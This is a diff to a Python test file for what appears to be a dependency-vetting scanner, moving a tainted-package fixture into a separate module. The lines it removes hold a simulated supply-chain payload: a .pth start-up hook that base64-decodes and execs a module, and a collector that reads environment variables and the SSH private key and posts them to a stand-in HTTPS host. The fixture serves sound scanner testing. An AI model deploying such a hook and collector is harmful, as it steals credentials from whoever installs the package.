@@ -14,6 +14,7 @@ from demo.builders import write_sdist, write_wheel
 from depvet.cli import EXIT_ERROR, EXIT_FINDINGS, EXIT_OK
 from tests.conftest import run_cli
 from tests.localindex import LocalIndex
+from tests.payloads import tainted_files
 
 CORE = '''"""Formatting helpers."""
 import json
@@ -31,29 +32,6 @@ METADATA_10 = (
     "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nAuthor-email: Jane Doe <jane@example.org>\n"
     "Project-URL: Source, https://github.com/example/pkg\nRequires-Dist: packaging>=21\n\n"
 )
-# The LiteLLM 1.82.8 pattern, inert: a start-up hook that decodes and runs a collector which
-# reads SSH keys and the environment and posts them to an HTTPS domain. Only ever read as text.
-PAYLOAD_PTH = (
-    "import os, base64; exec(base64.b64decode('aW1wb3J0IHBrZy5fdGVsZW1ldHJ5'))\n"  # import pkg._telemetry
-)
-TELEMETRY = """import os
-import pathlib
-import urllib.request
-
-
-def _collect():
-    home = pathlib.Path.home()
-    data = {"env": dict(os.environ)}
-    key = home / ".ssh" / "id_rsa"
-    if key.exists():
-        data["ssh"] = key.read_text()
-    return data
-
-
-urllib.request.urlopen(
-    urllib.request.Request("https://models-telemetry.example.net/v1", data=repr(_collect()).encode())
-)
-"""
 
 
 def _release(directory: Path, version: str, files: dict[str, str], *, sdist: bool = False) -> Path:
@@ -71,8 +49,7 @@ def _tainted(directory: Path, **kwargs: Any) -> Path:
     files = {
         "pkg/__init__.py": INIT,
         "pkg/core.py": CORE,
-        "pkg_init.pth": PAYLOAD_PTH,
-        "pkg/_telemetry.py": TELEMETRY,
+        **tainted_files("pkg"),
     }
     return _release(directory, "1.1", files, **kwargs)
 
